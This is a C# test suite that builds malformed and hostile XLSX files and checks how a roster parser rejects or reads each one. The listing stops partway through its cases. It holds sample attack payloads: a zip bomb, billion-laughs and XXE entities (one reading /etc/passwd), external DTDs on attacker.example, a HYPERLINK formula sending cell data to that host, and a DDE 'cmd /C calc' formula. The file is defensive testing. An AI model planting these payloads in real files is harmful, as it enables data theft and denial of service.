using System.IO.Compression;
using System.Text;
using ComplianceRisk.Documents.Rosters;
using ComplianceRisk.Engine.Rosters;

namespace ComplianceRisk.Documents.Tests.Xlsx;

/// <summary>
/// Malformed and hostile XLSX files, one row each: every one is rejected with the one expected code, or read
/// with exactly the expected warnings — never an exception, never a hang, never unbounded memory. Files are
/// generated at test time (lazily, one at a time: the bomb is streamed, never held expanded).
/// </summary>
public sealed class HostileXlsxTests
{
    private const string Sheet1 = "xl/worksheets/sheet1.xml";
    private const string SharedStrings = "xl/sharedStrings.xml";
    private const string WorkbookXml = "xl/workbook.xml";
    private const string WorkbookRels = "xl/_rels/workbook.xml.rels";
    private static readonly DateOnly March31 = new(2026, 3, 31);

    /// <summary>What a hostile file must come to: a rejection (code, optionally row), or a roster with exactly these warning codes.</summary>
    public sealed record HostileCase(Func<byte[]> Build, string? Rejection = null, string[]? Warnings = null, RosterLimits? Limits = null,
        int? RejectionRow = null, Action<Roster>? Check = null)
    {
        /// <summary>Words the rejection's message or hint must contain, when what the file is matters to what the user does.</summary>
        public string? Saying { get; init; }
    }

    private static HostileCase Rejected(string code, Func<byte[]> build, RosterLimits? limits = null, int? row = null) => new(build, code, null, limits, row);
    private static HostileCase RejectedSaying(string code, string saying, Func<byte[]> build) => new(build, code) { Saying = saying };
    private static HostileCase Read(Func<byte[]> build, string[] warnings, Action<Roster>? check = null, RosterLimits? limits = null) => new(build, null, warnings, limits, null, check);

    private static readonly Cell?[] Header = ["employee_id", "name", "role", "last_training_date", "years_experience"];

    /// <summary>A one-sheet workbook ("Roster") with the standard header and the given data rows.</summary>
    private static XlsxBuilder Book(params Cell?[][] rows) => XlsxBuilder.Roster([Header, .. rows]);

    private static readonly Cell?[] Ada = ["E1", "Ada", "dba", Cell.Date(March31), 5];
    private static byte[] Valid() => Book(Ada, ["E2", "Bob", "dba", Cell.Date(March31), 7]).Build();

    private static Person E1(Roster roster) => roster.People.Single(p => p.Id == "E1");

    /// <summary>A sheet part holding <paramref name="spaces"/> spaces, streamed into the entry at the highest compression.</summary>
    private static byte[] Bomb(long spaces) => Book()
        .Drop(Sheet1)
        .Add(Sheet1, stream =>
        {
            stream.Write(Encoding.UTF8.GetBytes($"{XlsxBuilder.Declaration}<worksheet xmlns=\"{XlsxBuilder.MainNs}\"><sheetData>"));
            var block = new byte[1 << 20];
            block.AsSpan().Fill((byte)' ');
            for (var left = spaces; left > 0; left -= block.Length) stream.Write(block, 0, (int)Math.Min(block.Length, left));
            stream.Write("</sheetData></worksheet>"u8);
        }, CompressionLevel.SmallestSize)
        .Build();

    /// <summary>Replaces the first occurrence of an ASCII marker with raw bytes (for encodings XML text cannot express).</summary>
    private static byte[] ReplaceBytes(byte[] data, string marker, byte[] with)
    {
        var at = data.AsSpan().IndexOf(Encoding.ASCII.GetBytes(marker));
        Assert.True(at >= 0, $"marker {marker} not found");
        return [.. data.AsSpan(0, at), .. with, .. data.AsSpan(at + marker.Length)];
    }

    private static string RandomLetters(int length)
    {
        var random = new Random(length);
        return string.Create(length, random, (span, r) => { for (var i = 0; i < span.Length; i++) span[i] = (char)('a' + r.Next(26)); });
    }

    /// <summary>Column letters for a column number beyond int range (bijective base 26).</summary>
    private static string Letters(long column)
    {
        var letters = "";
        for (var n = column; n > 0; n = (n - 1) / 26) letters = (char)('A' + (n - 1) % 26) + letters;
        return letters;
    }

    private const string BillionLaughs =
        "<!DOCTYPE worksheet [<!ENTITY lol \"lol\">" +
        "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">" +
        "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">" +
        "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\"><!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">" +
        "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\"><!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">" +
        "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>";

    private static IEnumerable<(string Name, HostileCase Case)> Cases()
    {
        // ───────────── The ZIP container ─────────────

        // A download cut short: the central directory at the end is missing.
        yield return ("truncated zip (first 60%)", Rejected("ZIP_CORRUPT", () => { var v = Valid(); return v[..(int)(v.Length * 0.6)]; }));
        // A valid first local file header, then noise: no central directory anywhere.
        yield return ("random bytes after a valid local header", Rejected("ZIP_CORRUPT", () =>
        {
            var v = Valid();
            var header = 30 + BitConverter.ToUInt16(v, 26);
            var noise = new byte[8192];
            new Random(42).NextBytes(noise);
            return [.. v.AsSpan(0, header), .. noise];
        }));
        // The directory is intact but the sheet's deflate data is damaged (a bad sector, a botched transfer).
        yield return ("sheet entry with damaged compressed data", Rejected("ZIP_CORRUPT", () =>
            ZipSurgery.DamageData(Book(Ada, ["E2", "Bob", "dba"], ["E3", "Cy", "dba"]).Build(), Sheet1, from: 0.3)));
        // A stored (uncompressed) part with one byte changed in transit — employee E2 became E3 — so its data no
        // longer matches its CRC-32. Nothing else can tell: the CRC is the only guard against a silently wrong id.
        yield return ("stored part changed in transit (CRC-32 mismatch)", Rejected("ZIP_CORRUPT", () =>
            ZipSurgery.ChangeStoredText(Book(Ada, ["E2", "Bob", "dba"]).Compression(CompressionLevel.NoCompression).Build(), SharedStrings, "E2", "E3")));
        // The same in the sheet itself, stored: Ada's 5 years of experience became 9. Read, it would be a wrong number
        // with no warning; the CRC-32 tells.
        yield return ("stored sheet with a number changed in transit (CRC-32 mismatch)", Rejected("ZIP_CORRUPT", () =>
            ZipSurgery.ChangeStoredText(Book(Ada).Compression(CompressionLevel.NoCompression).Build(), Sheet1, "<v>5</v>", "<v>9</v>")));
        // A compressed sheet whose data is intact but whose directory gives another CRC-32: which of the two is wrong
        // cannot be told, so the part is not trusted.
        yield return ("compressed sheet whose declared CRC-32 is not its data's", Rejected("ZIP_CORRUPT", () =>
            ZipSurgery.SetCrc32(Valid(), Sheet1, ~ZipSurgery.Crc32Of(Valid(), Sheet1))));
        // A part the roster is not read from (an image) with a wrong CRC-32 changes nothing that is read: no reason to refuse.
        yield return ("unread part with a wrong CRC-32", Read(() =>
            ZipSurgery.SetCrc32(Book(Ada).Add("xl/media/image1.bin", [1, 2, 3]).Build(), "xl/media/image1.bin", 0), [],
            r => Assert.Equal(5, E1(r).YearsExperience)));
        // An entry compressed with a method .NET cannot inflate (14 = LZMA).
        yield return ("sheet entry with an unsupported compression method (LZMA)", Rejected("ZIP_CORRUPT", () => ZipSurgery.SetMethod(Valid(), Sheet1, 14)));
        // A sheet encrypted with ZIP traditional encryption, as "zip with password" tools make: the flag is set and
        // the data is ciphertext (noise to an inflater).
        yield return ("sheet entry encrypted by a zip tool", Rejected("ZIP_CORRUPT", () =>
            ZipSurgery.DamageData(ZipSurgery.SetFlags(Valid(), Sheet1, 1), Sheet1, from: 0)));
        // A CSV zipped and renamed .xlsx: no [Content_Types].xml, no workbook.
        yield return ("zip of a text file renamed .xlsx", RejectedSaying("NOT_A_WORKBOOK", "Unzip it and assess roster.csv itself",
            () => ZipSurgery.Zip(("roster.csv", "employee_id,role\nE1,dba\n"))));
        // Spreadsheets and documents other programs save, each named for what it is (tests/fixtures/realistic-roster/roster.ods
        // is a real one, from LibreOffice: RealisticRosterTests).
        yield return ("OpenDocument spreadsheet (.ods)", RejectedSaying("NOT_A_WORKBOOK", "OpenDocument spreadsheet (.ods)", () => ZipSurgery.Zip(
            ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
            ("META-INF/manifest.xml", "<?xml version=\"1.0\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"/>"),
            ("content.xml", "<?xml version=\"1.0\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\"/>"))));
        yield return ("OpenDocument text (.odt)", RejectedSaying("NOT_A_WORKBOOK", "OpenDocument text, not a spreadsheet", () => ZipSurgery.Zip(
            ("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<?xml version=\"1.0\"?><x/>"))));
        yield return ("Apple Numbers package", RejectedSaying("NOT_A_WORKBOOK", "Export To > Excel", () => ZipSurgery.Zip(
            ("Index/Document.iwa", "\u0001"), ("Metadata/DocumentIdentifier", "0"))));
        yield return ("PowerPoint package", RejectedSaying("NOT_A_WORKBOOK", "PowerPoint presentation", () => ZipSurgery.Zip(
            ("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
            ("ppt/presentation.xml", "<?xml version=\"1.0\"?><p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>"))));
        // A Word document renamed .xlsx: a valid OPC package, but of a document, not a workbook.
        yield return ("docx-like package", RejectedSaying("NOT_A_WORKBOOK", "Word document", () => ZipSurgery.Zip(
            ("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"),
            ("_rels/.rels", $"<?xml version=\"1.0\"?><Relationships xmlns=\"{XlsxBuilder.PackageRelNs}\"><Relationship Id=\"rId1\" Type=\"{XlsxBuilder.RelNs}/officeDocument\" Target=\"word/document.xml\"/></Relationships>"),
            ("word/document.xml", "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>employee_id role</w:t></w:r></w:p></w:body></w:document>"))));
        // The smallest valid ZIP: an end-of-central-directory record and nothing else. It is a ZIP, not "binary
        // data that is not CSV" — the message must say it holds no workbook.
        yield return ("empty zip", Rejected("NOT_A_WORKBOOK", () => [0x50, 0x4B, 0x05, 0x06, .. new byte[18]]));
        // A workbook whose [Content_Types].xml was left out.
        yield return ("workbook without [Content_Types].xml", Rejected("NOT_A_WORKBOOK", () => Book(Ada).Drop("[Content_Types].xml").Build()));
        // The workbook part declared with a generic content type: the relationship type says what the part is,
        // and the data is plain, so it is read (leniency, not a risk).
        yield return ("workbook part with a generic content type", Read(() => Book(Ada).WorkbookContentType("application/xml").Build(), []));
        // Two entries with the same name: which one a reader sees is up to the reader, a classic scanner-evasion trick.
        yield return ("two entries named xl/worksheets/sheet1.xml", Rejected("NOT_A_WORKBOOK", () => Book(Ada)
            .Add(Sheet1, $"{XlsxBuilder.Declaration}<worksheet xmlns=\"{XlsxBuilder.MainNs}\"><sheetData/></worksheet>").Build()));
        // 20,000 tiny entries (the limit is 10,000): each costs a directory entry and a part object.
        yield return ("20,000 entries", Rejected("ZIP_TOO_MANY_ENTRIES", () =>
        {
            var book = Book(Ada);
            for (var i = 0; i < 20_000; i++) book.Add($"xl/media/pad{i}.xml", "<x/>");
            return book.Build();
        }));
        // A sheet of 1,000,000,000 spaces compressed at SmallestSize (~1 MB, about 1,000×): refused from the
        // directory, before a byte is inflated.
        yield return ("1 GB zip bomb (spaces, SmallestSize)", Rejected("ZIP_BOMB", () => Bomb(1_000_000_000)));
        // A 4 GiB size declared in the headers: over the 1 GiB package limit before anything is read.
        yield return ("4 GiB declared in the central directory", Rejected("ZIP_TOO_LARGE", () => ZipSurgery.DeclareUncompressedSize(Valid(), Sheet1, uint.MaxValue)));
        // Honest parts (random data, no ratio trick) adding up beyond MaxExpandedBytes (1 MiB here).
        yield return ("parts adding up beyond the expanded-size limit", Rejected("ZIP_TOO_LARGE", () =>
        {
            var noise = new byte[700_000];
            new Random(1).NextBytes(noise);
            return Book(Ada).Add("xl/media/image1.bin", noise).Add("xl/media/image2.bin", noise).Build();
        }, new RosterLimits { MaxExpandedBytes = 1024 * 1024 }));
        // The sheet's headers declare 200 bytes; the deflate stream holds the whole ~1 KB sheet. .NET's ZIP reader
        // never inflates past the declared size, so nothing beyond it is read: the sheet arrives cut off, and its
        // 200 bytes do not have the CRC-32 the directory gives (that of the whole sheet), which is found at their
        // end, before the XML parser could report the cut.
        yield return ("entry expanding beyond its declared size", Rejected("ZIP_CORRUPT", () => ZipSurgery.DeclareUncompressedSize(Valid(), Sheet1, 200)));
        // An .xls (BIFF8) or a password-protected .xlsx: both are OLE compound files.
        yield return ("OLE compound-file header", Rejected("LEGACY_OR_ENCRYPTED_WORKBOOK", () =>
            [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[16], 0x3E, 0x00, 0x03, 0x00, 0xFE, 0xFF, 0x09, 0x00, .. new byte[488]]));

        // ───────────── Macros ─────────────

        // A VBA project inside an otherwise ordinary package (the content type still says .xlsx).
        yield return ("vbaProject.bin in an .xlsx", Rejected("MACRO_ENABLED", () => Book(Ada).Add("xl/vbaProject.bin", [0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x01]).Build()));
        // The .xlsm content type, without the VBA part.
        yield return ("macro-enabled workbook content type", Rejected("MACRO_ENABLED", () => Book(Ada).WorkbookContentType(XlsxBuilder.MacroWorkbookType).Build()));

        // ───────────── XML ─────────────

        // Billion laughs: nine levels of entities expanding to 10^9 "lol"s, referenced in a cell.
        yield return ("billion laughs in the sheet", Rejected("XML_DTD", () => Book(["E1", Cell.Raw("<c r=\"B2\" t=\"inlineStr\"><is><t>&lol9;</t></is></c>"), "dba"])
            .Edit(Sheet1, xml => XlsxBuilder.AfterDeclaration(xml, BillionLaughs)).Build()));
        // XXE: an external entity reading a local file into a shared string.
        yield return ("external entity (file:///etc/passwd) in sharedStrings", Rejected("XML_DTD", () => Book(["E1", "XXE_HERE", "dba"])
            .Edit(SharedStrings, xml => XlsxBuilder.AfterDeclaration(xml, "<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>").Replace("XXE_HERE", "&xxe;")).Build()));
        // An internal DTD subset in workbook.xml (no entity used): DTDs are refused outright.
        yield return ("DTD in workbook.xml", Rejected("XML_DTD", () => Book(Ada).Edit(WorkbookXml, xml => XlsxBuilder.AfterDeclaration(xml, "<!DOCTYPE workbook [<!ENTITY x \"y\">]>")).Build()));
        // A DTD in the package's own [Content_Types].xml, read by the packaging layer rather than the reader.
        yield return ("DTD in [Content_Types].xml", Rejected("XML_DTD", () => Book(Ada)
            .Edit("[Content_Types].xml", xml => XlsxBuilder.AfterDeclaration(xml, "<!DOCTYPE Types [<!ENTITY x SYSTEM \"http://attacker.example/x\">]>")).Build()));
        // An external DTD in styles.xml (SYSTEM identifier, fetched by a resolver if there were one).
        yield return ("external DTD in styles.xml", Rejected("XML_DTD", () => Book(Ada)
            .Edit("xl/styles.xml", xml => XlsxBuilder.AfterDeclaration(xml, "<!DOCTYPE styleSheet SYSTEM \"http://attacker.example/evil.dtd\">")).Build()));
        // Mismatched tags in the sheet.
        yield return ("malformed XML in the sheet", Rejected("XML_INVALID", () => Book(Ada).Edit(Sheet1, xml => xml.Replace("</sheetData>", "<row r=\"9\"><c r=\"A9\"></sheetData>")).Build()));
        // The sheet ends in the middle of a row (a well-formed prefix).
        yield return ("sheet cut off mid-row", Rejected("XML_INVALID", () => Book(Ada, ["E2", "Bob", "dba"]).Edit(Sheet1, xml => xml[..(xml.LastIndexOf("<c ", StringComparison.Ordinal) + 8)]).Build()));
        // Bytes that are not UTF-8 (0xFF 0xFE) inside a shared string of a part that declares UTF-8.
        yield return ("invalid UTF-8 in a shared string", Rejected("XML_INVALID", () =>
            Book(["E1", "BADTEXT", "dba"]).EditBytes(SharedStrings, b => ReplaceBytes(b, "BADTEXT", [0x41, 0xFF, 0xFE, 0x42])).Build()));
        // A character reference to U+0000, which XML 1.0 forbids.
        yield return ("character reference &#0; in a cell", Rejected("XML_INVALID", () => Book(["E1", Cell.Raw("<c r=\"B2\" t=\"inlineStr\"><is><t>A&#0;B</t></is></c>"), "dba"]).Build()));
        // workbook.xml present but empty (0 bytes).
        yield return ("empty workbook.xml", Rejected("XML_INVALID", () => Book(Ada).Replace(WorkbookXml, []).Build()));
        // styles.xml that is not well-formed.
        yield return ("malformed styles.xml", Rejected("XML_INVALID", () => Book(Ada).Replace("xl/styles.xml", $"<styleSheet xmlns=\"{XlsxBuilder.MainNs}\"><cellXfs><xf></styleSheet>").Build()));
        // A sheet declared UTF-16 but written in UTF-8.
        yield return ("sheet whose encoding declaration lies (UTF-16 declared, UTF-8 written)", Rejected("XML_INVALID", () => Book(Ada)
            .Edit(Sheet1, xml => xml.Replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")).Build()));
        // The same sheet honestly written as UTF-16 with a BOM: valid XML, read as usual.
        yield return ("sheet written in UTF-16", Read(() => Book(Ada)
            .EditBytes(Sheet1, bytes => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(bytes).Replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\""))]).Build(),
            [], r => Assert.Equal(March31, E1(r).LastTraining)));
        // 10,000 nested unknown elements inside a cell: no recursion, no stack overflow.
        yield return ("10,000 nested elements in a cell", Read(() => Book(["E1", Cell.Raw("<c r=\"B2\" t=\"inlineStr\"><is><t>Ada</t></is>" +
            string.Concat(Enumerable.Repeat("<x>", 10_000)) + string.Concat(Enumerable.Repeat("</x>", 10_000)) + "</c>"), "dba"]).Build(),
            [], r => Assert.Equal("Ada", E1(r).Name)));

        // ───────────── Size limits in the sheet ─────────────

        // A cell in column XFE (16,385), one past Excel's last column.
        yield return ("cell in column XFE", Rejected("TOO_MANY_COLUMNS", () => Book(["E1", "Ada", "dba", null, null, Cell.Text("x").At("XFE")]).Build(), row: 2));
        // A row of 100,000 cells.
        yield return ("row with 100,000 cells", Rejected("TOO_MANY_COLUMNS", () => Book([.. Enumerable.Range(0, 100_000).Select(i => (Cell?)Cell.Number(i))]).Build(), row: 2));
        // A cell reference whose column letters overflow a 32-bit column number and wrap round to column B
        // (4,294,967,298 = 2^32 + 2): it must not land in column B as the person's name.
        yield return ("column letters overflowing to column B", Rejected("TOO_MANY_COLUMNS", () =>
            Book(["E1", null, "dba"]).Edit(Sheet1, xml => xml.Replace("<c r=\"C2\"", $"<c r=\"{Letters(4_294_967_298)}2\" t=\"inlineStr\"><is><t>Mallory</t></is></c><c r=\"C2\"")).Build(), row: 2));
        // A reference longer than references are (a row number of 50 digits, past int range) names no cell: the cell
        // goes after the one before it (D, a date column), as a reference that cannot be read does, however long it is.
        yield return ("reference of 50 digits", Read(() => Book(["E1", null, "dba", Cell.Text("Mallory").At("B" + new string('0', 38) + "99999999999")]).Build(),
            ["DATE_INVALID"], r => { Assert.Null(E1(r).Name); Assert.Equal("last_training_date", r.Warnings.Single().Column); }));
        // A cell's attributes written with character references (legal XML, if unusual) mean what they spell: E2 is
        // years_experience (read as a D2 date were the reference not decoded), and the name's type is inline text.
        yield return ("attributes written with character references", Read(() => Book(["E1", Cell.Raw("<c r=\"B2\" t=\"&#105;nlineStr\"><is><t>Ada</t></is></c>"), "dba",
                Cell.Raw("<c r=\"&#69;&#50;\" s=\"&#48;\"><v>5</v></c>")]).Build(),
            [], r => { Assert.Equal("Ada", E1(r).Name); Assert.Equal(5, E1(r).YearsExperience); Assert.Null(E1(r).LastTraining); }));
        // A value in XFD, the last column Excel has: allowed, but it has no header.
        yield return ("value in column XFD", Read(() => Book(["E1", "Ada", "dba", null, null, Cell.Text("x").At("XFD")]).Build(), ["CELL_OUTSIDE_HEADER"],
            r => Assert.Equal("XFD", r.Warnings.Single().Column)));
        // A 10 MB inline string in the name (random letters, so it compresses like text, not like a bomb):
        // ignored with a warning; the rest of the row is read.
        yield return ("10 MB inline string cell", Read(() => Book(["E1", Cell.Inline(RandomLetters(10 * 1024 * 1024)), "dba"]).Build(), ["CELL_TOO_LONG"],
            r => { Assert.Null(E1(r).Name); Assert.Single(r.Assignments); Assert.Equal((2, "B"), (r.Warnings[0].Row, r.Warnings[0].Column)); }));
        // The same 10 MB text as a shared string.
        yield return ("10 MB shared string cell", Read(() => Book(["E1", Cell.Text(RandomLetters(10 * 1024 * 1024)), "dba"]).Build(), ["CELL_TOO_LONG"],
            r => { Assert.Null(E1(r).Name); Assert.Single(r.Assignments); }));
        // One row numbered 2,097,153 — one past the default MaxRows — is enough: rows are counted by number.
        yield return ("row numbered past the default MaxRows", Rejected("TOO_MANY_ROWS", () => XlsxRoster(s => s.Row(Header).Row(Ada).RowAt(2_097_153, "E2", "Bob", "dba")), row: 2_097_153));
        // Row 1,048,577, one past Excel's last row, with MaxRows at Excel's 1,048,576.
        yield return ("row 1,048,577 with MaxRows = 1,048,576", Rejected("TOO_MANY_ROWS", () => XlsxRoster(s => s.Row(Header).Row(Ada).RowAt(1_048_577, "E2", "Bob", "dba")),
            new RosterLimits { MaxRows = 1_048_576 }, row: 1_048_577));
        // 1,001 rows, none with an r attribute, with MaxRows = 1,000.
        yield return ("1,001 rows without r attributes, MaxRows = 1,000", Rejected("TOO_MANY_ROWS", () => XlsxRoster(s =>
        {
            s.WithoutRowReferences().Row(Header);
            for (var i = 2; i <= 1_001; i++) s.Row($"E{i}", "Ada", "dba");
        }), new RosterLimits { MaxRows = 1_000 }, row: 1_001));
        // A row number beyond int range ("99999999999"): far past any limit, not "the next row".
        yield return ("row number beyond int range", Rejected("TOO_MANY_ROWS", () => Book(Ada, ["E2", "Bob", "dba"])
            .Edit(Sheet1, xml => xml.Replace("<row r=\"3\">", "<row r=\"99999999999\">").Replace("3\"", "99999999999\"")).Build()));

        // ───────────── Cells ─────────────

        // =HYPERLINK(...) with its cached value: the value is used as text, with a warning; nothing is evaluated.
        yield return ("HYPERLINK formula with a cached value", Read(() => Book(["E1", Cell.Formula("HYPERLINK(\"http://attacker.example/?\"&A2,\"Ada\")", "Ada"), "dba"]).Build(),
            ["FORMULA"], r => { Assert.Equal("Ada", E1(r).Name); Assert.Equal((2, "B", "Ada"), (r.Warnings[0].Row, r.Warnings[0].Column, r.Warnings[0].Value)); }));
        // The same formula never calculated (no <v>): read as empty, with a warning.
        yield return ("HYPERLINK formula without a cached value", Read(() => Book(["E1", Cell.Formula("HYPERLINK(\"http://attacker.example/\",\"Ada\")"), "dba"]).Build(),
            ["FORMULA"], r => Assert.Null(E1(r).Name)));
        // A DDE "command" formula: its cached text is just text.
        yield return ("DDE command formula with a cached value", Read(() => Book(["E1", Cell.Formula("cmd|' /C calc'!A0", "Ada"), "dba"]).Build(),
            ["FORMULA"], r => Assert.Equal("Ada", E1(r).Name)));
        // The employee id computed by a formula that was never calculated: a formula warning and a missing id.
        yield return ("employee id formula without a cached value", Read(() => Book([Cell.Formula("CONCAT(\"E\",ROW())"), "Ada", "dba"], ["E2", "Bob", "dba"]).Build(),
            ["FORMULA", "MISSING_EMPLOYEE_ID"]));
        // A numeric formula (years of experience) with its cached number.
        yield return ("numeric formula with a cached value", Read(() => Book(["E1", "Ada", "dba", null, Cell.Formula("2026-2020", "6", type: null)]).Build(),
            ["FORMULA"], r => Assert.Equal(6, E1(r).YearsExperience)));
        // Formulas copied down into rows below the last person, each calculating to "": blank rows, not a warning each.
        yield return ("formulas copied down that calculate to nothing", Read(() => Book(Ada,
                [Cell.Formula("IF(A4=\"\",\"\",A4)", ""), Cell.Formula("IF(A4=\"\",\"\",B4)", "")],
                [Cell.Formula("IF(A5=\"\",\"\",A5)", ""), Cell.Formula("IF(A5=\"\",\"\",B5)", "")]).Build(), [],
            r => Assert.Equal(["E1"], r.People.Select(p => p.Id))));
        // A date computed by a formula is quoted as the date, not as its serial number.
        yield return ("date formula", Read(() => Book(["E1", "Ada", "dba", Cell.Formula("DATE(2026,3,31)", "46112", type: null) with { Style = "1" }]).Build(),
            ["FORMULA"], r => Assert.Equal(("2026-03-31", March31), (r.Warnings.Single().Value, E1(r).LastTraining!.Value))));
        // A shared formula (the dependent cell's <f> is empty, pointing at the master): still a formula.
        yield return ("shared formula, dependent cell", Read(() => Book(
                ["E1", "Ada", "dba", null, Cell.Raw("<c r=\"E2\"><f t=\"shared\" ref=\"E2:E3\" si=\"0\">1+1</f><v>2</v></c>")],
                ["E2", "Bob", "dba", null, Cell.Raw("<c r=\"E3\"><f t=\"shared\" si=\"0\"/><v>2</v></c>")]).Build(),
            ["FORMULA", "FORMULA"], r => Assert.Equal(2, r.People.Single(p => p.Id == "E2").YearsExperience)));
        // #N/A where the role should be: an error warning, and the row has no role.
        yield return ("#N/A in the role", Read(() => Book(["E1", "Ada", Cell.Error("#N/A")]).Build(), ["CELL_ERROR", "MISSING_ROLE"]));
        // #REF! in a date column: an error warning, the date is not read.
        yield return ("#REF! in a date", Read(() => Book(["E1", "Ada", "dba", Cell.Error("#REF!")]).Build(), ["CELL_ERROR"], r => Assert.Null(E1(r).LastTraining)));
        // A shared-string index past the end of the table: the cell is empty (so the id is missing).
        yield return ("shared-string index out of range", Read(() => Book([Cell.Shared(999), "Ada", "dba"], Ada).Build(), ["MISSING_EMPLOYEE_ID"]));
        // A shared-string index that is not a number at all.
        yield return ("shared-string index not a number", Read(() => Book([Cell.Raw("<c r=\"A2\" t=\"s\"><v>-1</v></c>"), "Ada", "dba"], Ada).Build(), ["MISSING_EMPLOYEE_ID"]));
        // A style index past cellXfs: an unformatted number, still read as a date serial by the date column.
        yield return ("style index out of range", Read(() => Book(["E1", "Ada", "dba", Cell.Number(46_112, 999)]).Build(), [], r => Assert.Equal(March31, E1(r).LastTraining)));
        // A date-formatted cell holding a negative serial: one warning for the one bad cell.
        yield return ("date-formatted negative serial", Read(() => Book(["E1", "Ada", "dba", Cell.Date(-5)]).Build(), ["DATE_INVALID"], r => Assert.Null(E1(r).LastTraining)));
        // A date-formatted cell holding 1E+300.
        yield return ("date-formatted huge serial", Read(() => Book(["E1", "Ada", "dba", Cell.NumberText("1E+300", XlsxBuilder.Styles.Date)]).Build(), ["DATE_INVALID"],
            r => Assert.Null(E1(r).LastTraining)));
        // A date-formatted cell holding NaN: no date (not 1899-12-30).
        yield return ("date-formatted NaN", Read(() => Book(["E1", "Ada", "dba", Cell.NumberText("NaN", XlsxBuilder.Styles.Date)]).Build(), ["DATE_INVALID"],
            r => Assert.Null(E1(r).LastTraining)));
        // TRUE in a date column.
        yield return ("boolean in a date column", Read(() => Book(["E1", "Ada", "dba", Cell.Bool(true)]).Build(), ["DATE_INVALID"], r => Assert.Null(E1(r).LastTraining)));
        // A t="d" cell whose value is not an ISO date.
        yield return ("t=\"d\" cell that is not a date", Read(() => Book(["E1", "Ada", "dba", Cell.IsoDate("yesterday")]).Build(), ["DATE_INVALID"]));
        // A number cell whose <v> is not a number.
        yield return ("number cell holding text", Read(() => Book(["E1", "Ada", "dba", null, Cell.NumberText("12abc")]).Build(), ["EXPERIENCE_INVALID"]));
        // No r attribute on any cell (allowed by the format): each cell follows the previous one.
        yield return ("cells without r attributes", Read(() => XlsxRoster(s => s.WithoutCellReferences().Row(Header).Row(Ada)), [],
            r => Assert.Equal(("Ada", March31), (E1(r).Name, E1(r).LastTraining))));
        // Cells written out of column order (C, A, B): each goes to the column its reference names.
        yield return ("cells out of column order", Read(() => Book([Cell.Text("dba").At("C"), Cell.Text("E1").At("A"), Cell.Text("Ada").At("B")]).Build(), [],
            r => Assert.Equal(("E1", "Ada", "dba"), (E1(r).Id, E1(r).Name, r.Assignments.Single().RoleId))));

        // ───────────── Sheets and structure ─────────────

        // A sheet with a title and nothing else.
        yield return ("only a title", Rejected("NO_EMPLOYEE_ID_COLUMN", () => XlsxBuilder.Roster(["IT staffing roster — November 2026"]).Build()));
        // A header and no people.
        yield return ("header only", Rejected("NO_DATA_ROWS", () => Book().Build()));
        // The header written twice: the second is read as a person "employee_id" in role "role" (not a catalog
        // role), whose training date and experience are the header words.
        yield return ("two header rows", Read(() => Book(Header, Ada).Build(), ["DATE_INVALID", "EXPERIENCE_INVALID", "ROLE_UNKNOWN"],
            r => Assert.Equal(3, E1(r).Rows.Single())));
        // An id column formatted 000000: the person is known by the id the sheet shows (000123), not the number behind it.
        yield return ("ids shown with leading zeros", Read(() => Book([Cell.Number(123, XlsxBuilder.Styles.ZeroPadded), "Ada", "dba"], [Cell.Number(4567, XlsxBuilder.Styles.ZeroPadded), "Bob", "dba"]).Build(), [],
            r => Assert.Equal(["000123", "004567"], r.People.Select(p => p.Id))));
        // A sheet named Roster that holds a summary, and the roster on another sheet: Roster is read (DESIGN §4), and
        // the rejection names it and says how the sheet is chosen.
        yield return ("a Roster sheet without the roster", RejectedSaying("NO_EMPLOYEE_ID_COLUMN", "sheet 'Roster'",
            () => new XlsxBuilder().Sheet("Roster", ["Headcount by department"], ["IT", 42]).Sheet("Data", Header, Ada).Build()));
        // The header on row 12, below the 10 rows searched.
        yield return ("header on row 12", Rejected("NO_EMPLOYEE_ID_COLUMN", () => XlsxRoster(s => s.Row("Roster").RowAt(12, Header).Row(Ada))));
        // A sheet with no rows at all.
        yield return ("empty sheet", Rejected("EMPTY", () => XlsxBuilder.Roster().Build()));
        // Every sheet hidden, one of them very hidden.
